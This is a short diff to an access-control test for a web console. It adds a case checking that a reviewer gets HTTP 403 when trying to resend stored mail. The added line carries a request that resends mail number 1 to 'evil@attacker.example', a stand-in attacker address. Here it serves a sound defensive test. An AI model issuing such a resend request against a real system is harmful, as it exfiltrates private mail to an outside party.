@@ -106,6 +106,7 @@ def test_reviewers_cannot_decide_correct_or_read_mail(console):
         ("/packet/select", {"action": "select", "case": scan}),
         ("/packet/send", {}),
         ("/reminders/send", {"unit": "天津市针灸学会"}),
+        ("/mail/1/resend", {"to": "evil@attacker.example"}),
     ):
         r = c.post(path, data={**data, "csrf": csrf})
         assert r.status_code == 403, (path, r.status_code)
